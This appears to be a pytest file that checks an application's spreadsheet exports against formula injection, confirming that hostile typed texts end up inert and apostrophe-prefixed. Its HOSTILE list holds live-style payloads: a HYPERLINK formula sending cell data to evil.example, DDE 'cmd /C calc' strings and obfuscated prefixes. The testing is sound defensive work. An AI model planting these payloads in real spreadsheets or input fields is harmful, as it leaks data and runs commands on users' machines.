"""Formula injection: text people typed (community and organisation names, invitation labels,
action texts, comments) is stored in a real SQLite database, then EVERY export of the registry
is made in every spreadsheet format it offers. No CSV cell starts a formula (a number may be
negative), no Excel cell is a formula or holds text as anything but text, and each typed text
is in the file exactly as typed, behind one apostrophe when it would start a formula.

The test walks the registry: a new export is covered by adding it there (and, for a new kind of
source, one source below)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import openpyxl
import pandas as pd
import pytest
from openpyxl import Workbook
from sqlalchemy import Engine

from lc_health.documents import portfolio_export, round_export, spreadsheet
from lc_health.documents.linksheet import LinkCard
from lc_health.documents.registry import EXPORTS, LinkSource, PaperSource, TemplateSource
from lc_health.documents.spreadsheet import is_formula_like, original_text, safe_cell
from lc_health.domain.disclosure import Policy
from lc_health.domain.instrument import Instrument, Registry
from lc_health.services import actions
from lc_health.store import communities as cstore
from lc_health.store import invitations as istore
from lc_health.store.db import read_session, write_session
from tests import publishing as pub

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
    "\u200b=1+1",  # zero-width space before it
    "\u2212" + "1+1",  # minus sign
    "#N/A",  # an error code to openpyxl
    "'t Hoekje",  # Dutch: an apostrophe that is not a prefix
]
SPREADSHEET = ("csv", "csv-nl", "xlsx")


def _texts(made: spreadsheet.Spreadsheet, fmt: str) -> list[str]:
    """Every text a builder handed over that goes into a cell (sheet names are no cells; the
    CSV of named tables leaves out the empty ones)."""
    if isinstance(made, Workbook):
        return [
            cell.value
            for sheet in made.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if isinstance(cell.value, str)
        ]
    if isinstance(made, pd.DataFrame):
        frames = {"": made}
    else:
        frames = {n: f for n, f in made.items() if len(f) or fmt == "xlsx"}
    out = [name for name in frames if name and fmt != "xlsx"]
    for frame in frames.values():
        out += [str(c) for c in frame.columns]
        out += [v for column in frame.columns for v in frame[column] if isinstance(v, str)]
    return out


def _csv_cells(data: bytes, fmt: str) -> list[str]:
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    text = data.decode("utf-8-sig")
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=";" if fmt == "csv-nl" else ",")
    return [cell for row in rows for cell in row]


def _number(cell: str, fmt: str) -> bool:
    try:
        float(cell.replace(",", ".") if fmt == "csv-nl" else cell)
    except ValueError:
        return False
    return True


def _xlsx_cells(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell for cell in cells if isinstance(cell.value, str)]
    assert all(cell.data_type == "s" for cell in texts)
    return [str(cell.value) for cell in texts]


def _hostile_database(engine: Engine, instrument: Instrument, registry: Registry) -> list[int]:
    """Two communities with hostile names, sectors, organisations, invitation labels, actions
    and comments; their rounds published."""
    round_ids = []
    with write_session(engine) as session:
        for c, name in enumerate(HOSTILE[:2]):
            rnd = pub.make(session, instrument, personal=len(HOSTILE), name=name)
            community = cstore.get_community(session=session, community_id=rnd.community_id)
            assert community is not None
            community.sector, community.region = HOSTILE[2 + c], HOSTILE[4 + c]
            session.add(community)
            orgs = [
                cstore.create_organisation(session=session, name=f"{h} {c}.{i}", type="mbo")
                for i, h in enumerate(HOSTILE)
            ]
            cstore.set_members(
                session=session,
                community_id=rnd.community_id,
                organisation_ids=[o.id for o in orgs if o.id is not None],
            )
            for h in HOSTILE:
                istore.create_personal_links(
                    session=session, community_id=rnd.community_id, count=1, label=h
                )
            for i, link in enumerate(rnd.links):
                pub.answer(
                    session,
                    instrument,
                    rnd,
                    pub.all_items(instrument, 2 + i % 4),
                    link=link,
                    comment=HOSTILE[i],
                )
            for i, h in enumerate(HOSTILE):
                actions.record_action(
                    session=session,
                    actor="lead@example.org",
                    community_id=rnd.community_id,
                    round_id=rnd.round_id,
                    factor_id=instrument.factors[i % len(instrument.factors)].id,
                    what=h,
                    owner=HOSTILE[-1 - i],
                    due_on=None,
                )
            round_ids.append(rnd.round_id)
    pub.publish(engine, registry)
    return round_ids


def _sources(
    engine: Engine, instrument: Instrument, registry: Registry, round_ids: list[int]
) -> Iterator[tuple[str, Any]]:
    """Every kind of source the registry knows, read back from the database."""
    policy = Policy()
    with read_session(engine) as session:
        # One round is enough (both communities are in the portfolio): its documents are slow.
        yield (
            "round",
            round_export.load_source(
                session=session, round_id=round_ids[0], registry=registry, policy=policy
            ),
        )
        data = portfolio_export.read_portfolio(session, None, instrument)
        period = data.periods[-1]
        chosen = data.communities[["community_id", "name"]]
        ids = frozenset(int(c) for c in chosen["community_id"])
        yield (
            "portfolio",
            portfolio_export.PortfolioSource(
                data=data,
                now=portfolio_export.read_period_means(session, None, policy.threshold, period),
                period=period,
                chosen=chosen,
                force_totals=portfolio_export.read_force_totals(session, ids, (period,)),
                instrument=instrument,
                lang="nl",
            ),
        )
        for community_id in sorted(ids):
            community = cstore.known_community(session=session, community_id=community_id)
            links = istore.invitations_frame(session=session, community_id=community_id)
            yield (
                "links",
                LinkSource(
                    [
                        LinkCard(f"https://x.example/?t={i}", str(label))
                        for i, label in enumerate(links["label"])
                    ],
                    community.name,
                    period,
                    HOSTILE[0],
                    "nl",
                ),
            )
            members = cstore.community_organisations(session=session, community_id=community_id)
            yield "template", TemplateSource(instrument, "nl", [o.name for o in members])
            yield "paper", PaperSource(instrument, "nl", community.name, period)


@pytest.fixture
def made(
    sqlite_engine: Engine, instrument: Instrument, registry: Registry
) -> list[tuple[str, str, list[str], bytes]]:
    """(export, format, texts handed over, file) for every export, source and spreadsheet
    format."""
    round_ids = _hostile_database(sqlite_engine, instrument, registry)
    found = []
    for kind, source in _sources(sqlite_engine, instrument, registry, round_ids):
        for export in EXPORTS.values():
            if export.source != kind:
                continue
            for audience in sorted(export.audiences):
                built: dict[str, Any] = {}  # one build for both CSV formats
                for fmt in sorted(set(export.formats) & set(SPREADSHEET)):
                    shape = "xlsx" if fmt == "xlsx" else "csv"
                    if shape not in built:
                        built[shape] = export.build(source, audience, fmt)
                    texts = _texts(built[shape], fmt)
                    found.append((export.name, fmt, texts, export.make(source, audience, fmt)))
    return found


def test_no_cell_of_any_export_is_a_live_formula_and_every_text_is_kept(
    made: list[tuple[str, str, list[str], bytes]],
) -> None:
    every = {(e.name, f) for e in EXPORTS.values() for f in e.formats if f in SPREADSHEET}
    assert {(name, fmt) for name, fmt, _, _ in made} == every
    reached: set[str] = set()
    carried: dict[tuple[str, str], bool] = {}
    for name, fmt, texts, data in made:
        if fmt == "xlsx":
            cells = _xlsx_cells(data)
            # Excel files keep a carriage return as a line feed.
            texts = [t.replace("\r", "\n") for t in texts]
            cells = [c.replace("\r", "\n").replace("_x000D_", "") for c in cells]
        else:
            cells = _csv_cells(data, fmt)
        assert not [c for c in cells if is_formula_like(c) and not _number(c, fmt)], (name, fmt)
        for text in filter(None, texts):  # (an empty text is an empty cell)
            assert safe_cell(text) in cells, (name, fmt, text)
            assert original_text(str(safe_cell(text))) == text
        found = {h for h in HOSTILE for t in texts if h.strip() in t}
        reached |= found
        carried[name, fmt] = carried.get((name, fmt), False) or bool(found)
    assert reached == set(HOSTILE)
    # Each export and format carried typed text for some audience (a CSV template is a header).
    empty = {key for key, some in carried.items() if not some}
    assert empty == {("import-template", "csv"), ("import-template", "csv-nl")}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),
        (" =1+1", "' =1+1"),
        ("\u200b@SUM(A1)", "'\u200b@SUM(A1)"),
        ("\n=1", "'\n=1"),
        ("'=1+1", "'=1+1"),  # already inert: applying the rule twice changes nothing
        ("'t Hoekje", "'t Hoekje"),
        ("a=b", "a=b"),
        (-2, -2),
        (-0.5, -0.5),
    ],
)
def test_the_rule(value: object, expected: object) -> None:
    assert safe_cell(value) == expected
    assert safe_cell(safe_cell(value)) == expected


def test_a_builder_cannot_hand_over_spreadsheet_bytes() -> None:
    with pytest.raises(TypeError, match="inert"):
        spreadsheet.write(b"=1+1\r\n", "csv")
